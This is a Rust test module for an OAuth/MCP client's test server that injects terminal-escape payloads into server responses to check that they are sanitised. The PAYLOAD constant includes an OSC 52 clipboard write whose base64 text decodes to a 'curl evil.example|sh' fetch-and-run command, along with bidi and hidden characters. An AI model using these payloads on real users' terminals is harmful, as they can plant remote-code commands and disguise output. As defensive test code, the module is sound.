//! Poisoned answers: one string of one document at a time carries terminal escapes (ESC, an OSC 52 that
//! would write to the clipboard, a C1 CSI, bidi and other format characters). Tests walk the strings by
//! index ([`TestServer::poison`], [`TestServer::poison_strings`]) and check that none of it ever reaches
//! a terminal or the database.

use super::*;

/// What a poisoned JSON string or query value gets appended.
pub const PAYLOAD: &str =
    "\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{9b}2J\u{202e}\u{2066}\u{200b}\u{2028}";
/// What a poisoned header value gets appended: a header cannot carry C0 controls, but it can carry the
/// UTF-8 bytes of C1, bidi and format characters.
pub const HEADER_PAYLOAD: &str = "\u{9b}2J\u{202e}\u{2066}\u{200b}";

/// The documents and answers a server sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Doc {
    /// The `WWW-Authenticate` challenge of the MCP endpoint's 401.
    Challenge,
    /// RFC 9728 protected resource metadata.
    ResourceMetadata,
    /// RFC 8414 / OpenID authorization server metadata.
    ServerMetadata,
    /// The RFC 7591 registration response.
    Registration,
    /// A registration error response (the registration fails).
    RegistrationError,
    /// The query of the redirect back to the client (code, state, iss).
    Authorization,
    /// A successful token response (code exchange and refresh).
    Token,
    /// A token error response (every token request fails).
    TokenError,
    /// A revocation error response.
    RevocationError,
}

impl Doc {
    pub const ALL: [Doc; 9] = [
        Doc::Challenge,
        Doc::ResourceMetadata,
        Doc::ServerMetadata,
        Doc::Registration,
        Doc::RegistrationError,
        Doc::Authorization,
        Doc::Token,
        Doc::TokenError,
        Doc::RevocationError,
    ];

    fn of(path: &str) -> Option<Doc> {
        Some(if path == "/mcp" {
            Doc::Challenge
        } else if path.contains("oauth-protected-resource") || path == "/meta/prm.json" {
            Doc::ResourceMetadata
        } else if path.contains("oauth-authorization-server") || path.contains("openid-configuration") {
            Doc::ServerMetadata
        } else if path.ends_with("/register") {
            Doc::Registration
        } else if path.ends_with("/authorize") {
            Doc::Authorization
        } else if path.ends_with("/token") {
            Doc::Token
        } else if path.ends_with("/revoke") {
            Doc::RevocationError
        } else {
            return None;
        })
    }

    /// Fields a real server may add, so that they are poisoned too.
    fn extras(self) -> Value {
        match self {
            Doc::ResourceMetadata => json!({
                "resource_name": "Test server",
                "resource_documentation": "https://docs.example.com/mcp",
            }),
            Doc::ServerMetadata => json!({
                "service_documentation": "https://docs.example.com/oauth",
                "op_tos_uri": "https://example.com/tos",
            }),
            Doc::Registration => json!({"client_name": "mcp-accounts", "client_uri": "https://example.com"}),
            Doc::Token => json!({"id_token": "header.payload.signature"}),
            _ => json!({}),
        }
    }

    /// The error body that replaces the answer of an error document.
    fn error_body(self) -> Option<(StatusCode, Value)> {
        let (status, error) = match self {
            Doc::RegistrationError => (StatusCode::BAD_REQUEST, "invalid_client_metadata"),
            Doc::TokenError => (StatusCode::BAD_REQUEST, "invalid_grant"),
            Doc::RevocationError => (StatusCode::BAD_REQUEST, "unsupported_token_type"),
            _ => return None,
        };
        Some((
            status,
            json!({
                "error": error,
                "error_description": "the server says no",
                "error_uri": "https://example.com/errors/1",
            }),
        ))
    }

    fn matches(self, served: Doc) -> bool {
        self == served
            || matches!(
                (self, served),
                (Doc::RegistrationError, Doc::Registration) | (Doc::TokenError, Doc::Token)
            )
    }
}

/// Which string to poison: the `index`th of `doc` (one past the last: a field of its own, with a
/// poisoned name).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Poison {
    pub doc: Doc,
    pub index: usize,
}

/// What the poisoning did: how many strings the document had, and whether one was poisoned.
#[derive(Debug, Default)]
pub(super) struct PoisonReport {
    pub strings: HashMap<Doc, usize>,
    pub applied: bool,
}

/// The middleware: poison the answer when it is the document asked for.
pub(super) async fn poison(State(inner): State<Arc<Inner>>, request: Request, next: Next) -> Response {
    let target = inner.data().poison;
    let served = Doc::of(request.uri().path());
    let response = next.run(request).await;
    let (Some(target), Some(served)) = (target, served) else {
        return response;
    };
    if !target.doc.matches(served) {
        return response;
    }
    let (mut parts, body) = response.into_parts();
    match target.doc {
        // Headers only: the body stays as it is.
        Doc::Challenge => {
            if let Some(challenge) = parts.headers.get(header::WWW_AUTHENTICATE) {
                let (poisoned, strings) = poison_challenge(challenge.to_str().unwrap_or_default(), target.index);
                inner.report(target, strings);
                let value = HeaderValue::from_bytes(poisoned.as_bytes()).unwrap();
                parts.headers.insert(header::WWW_AUTHENTICATE, value);
            }
            Response::from_parts(parts, body)
        }
        Doc::Authorization => {
            if let Some(location) = parts.headers.get(header::LOCATION) {
                let mut url = url::Url::parse(location.to_str().unwrap_or_default()).unwrap();
                let mut pairs: Vec<(String, String)> = url.query_pairs().into_owned().collect();
                inner.report(target, pairs.len());
                match pairs.get_mut(target.index) {
                    Some((_, value)) => value.push_str(PAYLOAD),
                    None => pairs.push((format!("x{PAYLOAD}"), PAYLOAD.to_owned())),
                }
                url.query_pairs_mut().clear().extend_pairs(&pairs);
                parts.headers.insert(header::LOCATION, url.as_str().parse().unwrap());
            }
            Response::from_parts(parts, body)
        }
        doc => {
            if let Some((status, error)) = doc.error_body() {
                parts.status = status;
                return finish(&inner, target, parts, error);
            }
            let body = axum::body::to_bytes(body, 64 << 20).await.unwrap_or_default();
            let mut value = serde_json::from_slice::<Value>(&body).unwrap_or(Value::Null);
            if !value.is_object() || !parts.status.is_success() {
                return Response::from_parts(parts, body.into());
            }
            if let (Some(map), Value::Object(extras)) = (value.as_object_mut(), doc.extras()) {
                map.extend(extras);
            }
            finish(&inner, target, parts, value)
        }
    }
}

/// Poison the `index`th string of a JSON document and answer with it.
fn finish(inner: &Inner, target: Poison, mut parts: axum::http::response::Parts, mut value: Value) -> Response {
    let mut strings = Vec::new();
    collect_strings(&mut value, &mut strings);
    let count = strings.len();
    inner.report(target, count);
    match strings.into_iter().nth(target.index) {
        Some(s) => s.push_str(PAYLOAD),
        None => {
            value
                .as_object_mut()
                .unwrap()
                .insert(format!("x{PAYLOAD}"), json!(PAYLOAD));
        }
    }
    parts.headers.remove(header::CONTENT_LENGTH);
    parts
        .headers
        .insert(header::CONTENT_TYPE, "application/json".parse().unwrap());
    Response::from_parts(parts, value.to_string().into())
}

/// Every string in a JSON value, in document order.
fn collect_strings<'a>(value: &'a mut Value, out: &mut Vec<&'a mut String>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter_mut().for_each(|v| collect_strings(v, out)),
        Value::Object(map) => map.values_mut().for_each(|v| collect_strings(v, out)),
        _ => {}
    }
}

/// Append the header payload to the `index`th quoted value of a challenge (one past the last: a
/// parameter of its own); returns the challenge and how many quoted values it had.
fn poison_challenge(challenge: &str, index: usize) -> (String, usize) {
    let pieces: Vec<&str> = challenge.split('"').collect();
    // Quoted values are the odd pieces.
    let count = pieces.len() / 2;
    let mut out = String::new();
    for (i, piece) in pieces.iter().enumerate() {
        if i > 0 {
            out.push('"');
        }
        out.push_str(piece);
        if i % 2 == 1 && i / 2 == index {
            out.push_str(HEADER_PAYLOAD);
        }
    }
    if index >= count {
        out.push_str(&format!(", x{HEADER_PAYLOAD}=\"{HEADER_PAYLOAD}\""));
    }
    (out, count)
}

impl Inner {
    fn report(&self, target: Poison, strings: usize) {
        let mut d = self.data();
        d.poison_report.strings.insert(target.doc, strings);
        d.poison_report.applied = true;
    }
}

impl TestServer {
    /// Poison one string of one document from now on (`None`: stop).
    pub fn poison(&self, poison: Option<Poison>) {
        let mut d = self.inner.data();
        d.poison = poison;
        d.poison_report.applied = false;
    }
    /// How many strings the document had when it was last served (`None`: never served).
    pub fn poison_strings(&self, doc: Doc) -> Option<usize> {
        self.inner.data().poison_report.strings.get(&doc).copied()
    }
    /// Whether a poisoned answer went out since [`TestServer::poison`].
    pub fn poison_applied(&self) -> bool {
        self.inner.data().poison_report.applied
    }
}
